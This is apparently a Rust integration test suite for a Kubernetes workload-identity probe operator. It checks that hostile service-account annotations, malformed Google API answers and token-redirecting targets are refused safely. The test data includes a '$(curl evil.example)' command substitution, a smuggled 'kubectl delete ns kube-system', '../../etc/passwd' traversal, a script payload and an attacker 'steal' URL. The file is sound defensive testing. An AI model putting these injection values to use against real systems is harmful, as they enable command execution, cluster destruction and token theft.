//! Bad input loses nothing and breaks nothing: hostile KSA annotations become AnnotationInvalid
//! with safely quoted messages; malformed Google answers (truncated JSON, HTML pages, wrong types,
//! many megabytes) become Unknown with a reason; nothing in an AuthProbe can send a token to a host
//! other than the configured Google endpoints; plain-http endpoints are refused unless loopback.

use std::{
    process::Command,
    sync::{
        Arc,
        atomic::{AtomicU32, Ordering},
    },
};

use authprobe::api::Reason;
use fake_google::scenario::{Faults, Malformed};
use serde_json::json;

use crate::support::{self, *};

/// Malformed answers are the fake's for everyone: a control plane, fake and operator of this
/// module's own, whose tests run one at a time.
static ENV: Private = Private::new("hostile", Setup::DEFAULT);

static SERIAL: tokio::sync::Mutex<()> = tokio::sync::Mutex::const_new(());

#[tokio::test]
async fn hostile_annotations_are_invalid_and_quoted_safely() {
    let env = ENV.get();
    let _serial = SERIAL.lock().await;
    let client = env.client().await;
    let id = unique("hostile");
    let hostile: Vec<(&str, String)> = vec![
        ("empty", String::new()),
        ("ten-kib", "a".repeat(10 * 1024)),
        ("unicode-lookalike", "pаyments@acme-prod.iam.gserviceaccount.com".into()),
        ("emoji", "🔥@acme-prod.iam.gserviceaccount.com".into()),
        ("newline", "payments@acme-prod.iam.gserviceaccount.com\nX-Injected: yes".into()),
        ("trailing-space", "payments@acme-prod.iam.gserviceaccount.com ".into()),
        ("lookalike-domain", "payments@acme-prod.iam.gserviceaccount.com.evil.example".into()),
        ("lookalike-tld", "payments@acme-prod.iam.gserviceaccount.co".into()),
        ("shell", "$(curl evil.example)@acme-prod.iam.gserviceaccount.com".into()),
        ("quotes", "x\"; kubectl delete ns kube-system; \"@acme-prod.iam.gserviceaccount.com".into()),
        ("path", "../../etc/passwd@acme-prod.iam.gserviceaccount.com".into()),
        ("host-in-email", "x@127.0.0.1:8080".into()),
        ("html", "<script>alert(1)</script>@acme-prod.iam.gserviceaccount.com".into()),
        ("null-byte", "pay\u{0}ments@acme-prod.iam.gserviceaccount.com".into()),
    ];
    for (name, value) in &hostile {
        let ns = env.namespace(&client, name, &[("team", id.as_str())]).await;
        service_account(&client, &ns, "app", Some(value)).await;
    }
    apply_probe(&client, &id, gke_spec("team", &id, json!({}))).await;
    let probe = env
        .wait_for(&client, &id, "every hostile annotation judged", |p| {
            p.status.as_ref().and_then(|s| s.summary).is_some_and(|s| s.failing as usize == hostile.len())
        })
        .await;
    let status = probe.status.unwrap();
    assert!(status.failures.iter().all(|f| f.reason == Reason::AnnotationInvalid), "{:?}", status.failures);
    for f in &status.failures {
        assert!(
            !f.message.contains('\n') && !f.message.contains('\u{0}'),
            "raw control characters in {:?}",
            f.message
        );
        assert!(f.message.len() < 1024, "{} bytes: {:?}", f.message.len(), f.message);
        let events = support::events(&client, &f.namespace, "ServiceAccount", "app").await;
        assert_eq!(events.len(), 1, "{}: one event", f.namespace);
        assert!(events[0].note.as_ref().is_some_and(|n| n.len() <= 1024 && !n.contains('\n')));
    }
    assert!(!env.operator.log_text().contains("panicked"));
    report(
        "hostile",
        &format!(
            "{} hostile annotations: all AnnotationInvalid, messages quoted, events within 1 KiB",
            hostile.len()
        ),
    );
}

#[tokio::test]
async fn malformed_google_answers_are_unknown_with_a_reason() {
    let env = ENV.get();
    let _serial = SERIAL.lock().await;
    let client = env.client().await;
    let kinds = [
        Malformed::TruncatedJson,
        Malformed::HtmlPage,
        Malformed::WrongTypes,
        Malformed::HugeWrongType,
        Malformed::HugeBody,
    ];
    for kind in kinds {
        let id = unique("malformed");
        let gsa = format!("{}@acme-prod.iam.gserviceaccount.com", unique("malformed"));
        let ns = env.namespace(&client, "malformed", &[("team", id.as_str())]).await;
        service_account(&client, &ns, "app", Some(&gsa)).await;
        env.fake_service_account(&gsa, &[]);
        env.fake.update(|s| {
            s.faults = Faults {
                malformed: Some(kind),
                apis: vec!["iam.serviceAccounts.get".into()],
                ..Default::default()
            }
        });
        apply_probe(&client, &id, gke_spec("team", &id, json!({}))).await;
        let probe = env.wait_ready(&client, &id, "Unknown", "GoogleUnavailable").await;
        env.fake.update(|s| s.faults = Faults::default());
        let message = probe.status.unwrap().failures[0].message.clone();
        assert!(
            message.contains("malformed response") || message.contains("larger than"),
            "{kind:?}: {message}"
        );
        // Once Google answers properly, the real verdict (this KSA is unmapped) appears.
        probe_now(&client, &id).await;
        env.wait_ready(&client, &id, "False", "PrincipalNotMapped").await;
        report(
            "hostile",
            &format!(
                "{kind:?} answer: Unknown/GoogleUnavailable ({})",
                message.split(": ").last().unwrap_or_default().chars().take(100).collect::<String>()
            ),
        );
    }
    assert!(!env.operator.log_text().contains("panicked"));
}

/// Twenty KSAs whose GSA reads answer 200 with 0.5 MB strings where a boolean belongs: serde's
/// error quotes the value, yet every failure's message stays bounded and the status write succeeds.
#[tokio::test]
async fn huge_wrong_typed_answers_keep_the_status_small() {
    let env = ENV.get();
    let _serial = SERIAL.lock().await;
    let client = env.client().await;
    let id = unique("huge");
    const KSAS: usize = 20;
    for i in 0..KSAS {
        let ns = env.namespace(&client, &format!("huge{i}"), &[("team", id.as_str())]).await;
        let gsa = format!("{}@acme-prod.iam.gserviceaccount.com", unique("huge"));
        service_account(&client, &ns, "app", Some(&gsa)).await;
        env.fake_service_account(&gsa, &[]);
    }
    env.fake.update(|s| {
        s.faults = Faults {
            malformed: Some(Malformed::HugeWrongType),
            apis: vec!["iam.serviceAccounts.get".into()],
            ..Default::default()
        }
    });
    apply_probe(&client, &id, gke_spec("team", &id, json!({}))).await;
    let probe = env
        .wait_for(&client, &id, "20 failures judged Unknown", |p| {
            p.status.as_ref().is_some_and(|s| {
                s.failures.len() == KSAS && s.failures.iter().all(|f| f.reason == Reason::GoogleUnavailable)
            })
        })
        .await;
    env.fake.update(|s| s.faults = Faults::default());
    let status = serde_json::to_vec(&probe.status).unwrap();
    let longest = probe.status.as_ref().unwrap().failures.iter().map(|f| f.message.len()).max().unwrap();
    assert!(longest <= 2048, "a failure message of {longest} bytes");
    assert!(status.len() < 64 * 1024, "a status of {} bytes", status.len());
    assert!(!env.operator.log_text().contains("panicked"));
    report(
        "hostile",
        &format!(
            "{KSAS} GSA reads answering half-megabyte wrong-typed fields: all Unknown/GoogleUnavailable, longest message {longest} bytes, status {} bytes, written",
            status.len()
        ),
    );
}

#[tokio::test]
async fn nothing_in_a_probe_sends_a_token_anywhere_else() {
    let env = ENV.get();
    let _serial = SERIAL.lock().await;
    let client = env.client().await;
    // An "attacker" endpoint on loopback that records whatever reaches it.
    let hits = Arc::new(AtomicU32::new(0));
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let attacker = listener.local_addr().unwrap();
    let counter = hits.clone();
    tokio::spawn(async move {
        while let Ok((_, _)) = listener.accept().await {
            counter.fetch_add(1, Ordering::SeqCst);
        }
    });
    let id = unique("exfil");
    let ns = env.namespace(&client, "exfil", &[("team", id.as_str())]).await;
    service_account(&client, &ns, "app", Some(&format!("x@{attacker}"))).await;
    let hostile_targets = [
        format!("//{attacker}/projects/_/buckets/b"),
        format!("//storage.googleapis.com/projects/_/buckets/b@{attacker}"),
        format!("//storage.googleapis.com@{attacker}/projects/_/buckets/b"),
        "//storage.googleapis.com/projects/_/buckets/..%2F..%2Fevil".to_string(),
        "//storage.googleapis.com/projects/_/buckets/b?x=1".to_string(),
        format!("//iam.googleapis.com/projects/p/serviceAccounts/x@{attacker}#"),
    ];
    let mut refused = 0;
    for target in &hostile_targets {
        let probe = unique("exfil");
        let spec = gke_spec(
            "team",
            &id,
            json!({
                "identity": {"gke": {"clusterLocation": "us-central1", "clusterName": "prod-1"}},
                "targets": [{"resource": target, "permissions": ["storage.objects.get"]}],
                "probe": {"tokenExchange": true, "propagationGrace": "0s"}
            }),
        );
        apply_probe(&client, &probe, spec).await;
        env.wait_ready(&client, &probe, "False", "InvalidSpec").await;
        refused += 1;
    }
    // A federation audience pointing elsewhere only changes the token's aud, never where it goes.
    let probe = unique("exfil");
    apply_probe(&client, &probe, json!({
        "namespaceSelector": {"matchLabels": {"team": id}},
        "identity": {"platform": "Federation", "projectNumber": "123456789012", "access": "Direct",
                     "federation": {"provider": "projects/123456789012/locations/global/workloadIdentityPools/onprem/providers/k8s",
                                    "audience": format!("http://{attacker}/steal")}},
        "probe": {"tokenExchange": true, "propagationGrace": "0s"}
    })).await;
    env.wait_for(&client, &probe, "a verdict", |p| {
        p.status.as_ref().is_some_and(|s| s.last_probe_time.is_some())
    })
    .await;
    assert_eq!(hits.load(Ordering::SeqCst), 0, "nothing reached the attacker's endpoint");
    report(
        "hostile",
        &format!(
            "{refused} targets aiming elsewhere refused as InvalidSpec, a hostile annotation and audience: 0 requests reached {attacker}"
        ),
    );
}

#[test]
fn plain_http_endpoints_are_refused_unless_loopback() {
    // Loopback http is what every other test uses for the fake; these must be refused.
    let refused = ["iam=http://10.0.0.7/iam", "sts=http://metadata.google.internal/", "iam=ftp://127.0.0.1/"];
    for endpoint in refused {
        let out = Command::new(authprobe_bin())
            .args(["check", "-f", "/nonexistent", "--google-endpoint", endpoint])
            .output()
            .unwrap();
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert!(
            !out.status.success() && (stderr.contains("only for loopback") || stderr.contains("not http(s)")),
            "{endpoint}: {stderr}"
        );
    }
    report(
        "hostile",
        &format!(
            "{} plain-http and non-http Google endpoints outside loopback: refused at startup",
            refused.len()
        ),
    );
}
